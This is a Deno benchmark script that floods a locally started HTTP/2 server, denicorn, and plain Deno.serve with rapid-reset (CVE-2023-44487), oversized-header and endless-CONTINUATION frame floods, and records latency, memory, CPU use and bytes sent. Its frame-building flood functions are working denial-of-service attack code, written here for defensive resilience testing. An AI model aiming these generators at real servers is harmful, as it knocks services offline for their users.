/**
 * Floods over HTTP/2: `deno run -A bench/http2_floods.ts [ROUNDS] [FLOOD …]`
 *
 * Four clients, each with bursts that are 20 ms apart at least, connecting anew where it is cut: 100
 * requests that are taken back at once (CVE-2023-44487), 10 with 36 KB of fields each, 10 pieces of a
 * header block that never ends, and, to compare, 40 valid requests; the same spread evenly; and a
 * tenth. A line for each, for denicorn and for plain Deno.serve in turns: the others' p99 beside it
 * and without it, how much the server's memory (Pss) was up at its peak and after it, what was sent,
 * and the share of one CPU that the server used, the others' requests and the looks at its memory
 * included. (Clients without pauses would measure whose processor they share.)
 */

import { type Attacked, startAttacked, startPlain } from "./support/attacked_server.ts";
import { compare, type Latency, watch } from "./support/bystanders.ts";
import { treeCpuSeconds, treePss } from "./support/cpu.ts";
import {
  CANCEL,
  concat,
  Flag,
  frame,
  FrameType,
  headerBlock,
  PREFACE,
} from "./support/http2_frames.ts";
import { median } from "./table/summary.ts";

const CLIENTS = 4;
const SECONDS = 4;
const LOOK_MS = 250;
/** How much of each burst is sent, and after which pause the next: at once, as links space it, less. */
const MODES: Readonly<Record<string, Mode>> = {
  "whole bursts": { share: 1, pauseMs: 20 },
  "spread evenly": { share: 0.1, pauseMs: 2 },
  "a tenth": { share: 0.1, pauseMs: 20 },
  "anew every 200 ms": { share: 1, pauseMs: 20, lastsMs: 200 },
};
const AUTHORITY = { ":method": "GET", ":scheme": "http", ":path": "/", ":authority": "bench" };
const PLAIN = headerBlock(Object.entries(AUTHORITY));
/** 12 KB; three of them are more than a request may have. */
const CHUNK = headerBlock(
  Array.from({ length: 60 }, (_, i) => [`x-field-${i}`, "x".repeat(200)] as const),
);

const { headers, reset, settings, continuation } = FrameType;

interface Mode {
  readonly share: number;
  readonly pauseMs: number;
  /** A connection is left after so long, listened to or not. */
  readonly lastsMs?: number;
}

interface Flood {
  /** Requests, or frames, that are written at once. */
  readonly burst: number;
  /** What a client writes next: so many; `stream` is the first number that it has not used. */
  next(stream: number, count: number): Uint8Array;
}

const times = (count: number, make: (i: number) => Uint8Array[]) =>
  concat(Array.from({ length: count }, (_, i) => make(i)).flat());

const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": {
    burst: 100,
    next: (first, count) =>
      times(count, (i) => [
        frame(headers, Flag.endHeaders | Flag.endStream, first + 2 * i, PLAIN),
        frame(reset, Flag.none, first + 2 * i, CANCEL),
      ]),
  },
  "header flood": {
    burst: 10,
    next: (first, count) =>
      times(count, (i) => [
        frame(headers, Flag.endStream, first + 2 * i, PLAIN),
        frame(continuation, Flag.none, first + 2 * i, CHUNK),
        frame(continuation, Flag.none, first + 2 * i, CHUNK),
        frame(continuation, Flag.endHeaders, first + 2 * i, CHUNK),
      ]),
  },
  "CONTINUATION flood": {
    burst: 10,
    next: (first, count) =>
      concat([
        ...(first === 1 ? [frame(headers, Flag.endStream, 1, PLAIN)] : []),
        times(count, () => [frame(continuation, Flag.none, 1, CHUNK)]),
      ]),
  },
  // No attack that a server could tell from success: what the same bytes cost it that are in order.
  "valid requests": {
    burst: 40,
    next: (first, count) =>
      times(count, (i) => [
        frame(headers, Flag.endHeaders | Flag.endStream, first + 2 * i, PLAIN),
      ]),
  },
};

const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** One connection's worth, with this share of the flood's burst. Returns what it sent, bytes. */
async function flood(
  port: number,
  { burst, next }: Flood,
  { share, pauseMs, lastsMs = Infinity, end }: Mode & { readonly end: number },
): Promise<number> {
  let sent = 0;
  const leave = Math.min(end, performance.now() + lastsMs);
  const count = Math.max(1, Math.round(burst * share));
  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
  const drained = (async () => {
    const buffer = new Uint8Array(65_536);
    while (await connection.read(buffer) !== null);
  })().catch(() => {});
  try {
    await connection.write(concat([PREFACE, frame(settings, Flag.none, 0)]));
    for (let stream = 1; performance.now() < leave; stream += 2 * count) {
      const bytes = next(stream, count);
      for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
      sent += bytes.length;
      await pause(pauseMs);
    }
    if (leave === end) {
      await connection.closeWrite();
      await drained;
    }
  } catch {
    // Cut, as it should be.
  }
  return sent;
}

async function attack(
  port: number,
  kind: Flood,
  mode: Mode,
): Promise<{ connections: number; sent: number }> {
  const end = performance.now() + (SECONDS + 1) * 1_000;
  let [connections, sent] = [0, 0];
  await Promise.all(Array.from({ length: CLIENTS }, async () => {
    while (performance.now() < end) {
      connections++;
      sent += await flood(port, kind, { ...mode, end }).catch(() => 0);
      await pause(mode.pauseMs);
    }
  }));
  return { connections, sent };
}

/** What one server went through. */
class Ordeal {
  readonly #start: () => Promise<Attacked>;
  readonly #quiet: Latency[] = [];
  readonly #attacked: Latency[] = [];
  readonly #peaks: number[] = [];
  readonly #lasting: number[] = [];
  readonly #sent: number[] = [];
  readonly #connections: number[] = [];
  readonly #cpu: number[] = [];

  constructor(start: () => Promise<Attacked>) {
    this.#start = start;
  }

  async round(kind: Flood, mode: Mode): Promise<void> {
    await using server = await this.#start();
    await watch(server.port, 2); // warms up
    this.#quiet.push(await watch(server.port, SECONDS));
    const before = treePss(server.pid);
    let peak = before;
    const sampler = setInterval(() => peak = Math.max(peak, treePss(server.pid)), LOOK_MS);
    const cpu = treeCpuSeconds(server.pid);
    const over = attack(server.port, kind, mode);
    await pause(500);
    this.#attacked.push(await watch(server.port, SECONDS));
    const { connections, sent } = await over;
    this.#cpu.push(treeCpuSeconds(server.pid) - cpu);
    clearInterval(sampler);
    await pause(1_000);
    this.#peaks.push((peak - before) / 1e6);
    this.#lasting.push((treePss(server.pid) - before) / 1e6);
    this.#sent.push(sent / 1e6);
    this.#connections.push(connections);
  }

  toString(): string {
    const of = (list: readonly number[], digits = 0) => median(list).toFixed(digits);
    const perSecond = this.#sent.map((sent) => sent / (SECONDS + 1));
    const busy = this.#cpu.map((seconds) => 100 * seconds / (SECONDS + 1));
    return `${compare(this.#quiet, this.#attacked)}; memory +${of(this.#peaks)} MB at most, ` +
      `+${of(this.#lasting)} after; ${of(this.#connections)} connections, ` +
      `${of(perSecond, 2)} MB/s sent, server busy ${of(busy)} %`;
  }
}

const [rounds = "3", ...only] = Deno.args;
for (const [name, kind] of Object.entries(FLOODS)) {
  if (only.length > 0 && !only.includes(name)) continue;
  for (const [how, mode] of Object.entries(MODES)) {
    const ordeals = { "denicorn": new Ordeal(startAttacked), "Deno.serve": new Ordeal(startPlain) };
    for (let round = 0; round < Number(rounds); round++) {
      for (const ordeal of Object.values(ordeals)) await ordeal.round(kind, mode);
    }
    for (const [server, ordeal] of Object.entries(ordeals)) {
      console.log(`${name}, ${how}, ${server}: ${ordeal}`);
    }
  }
}
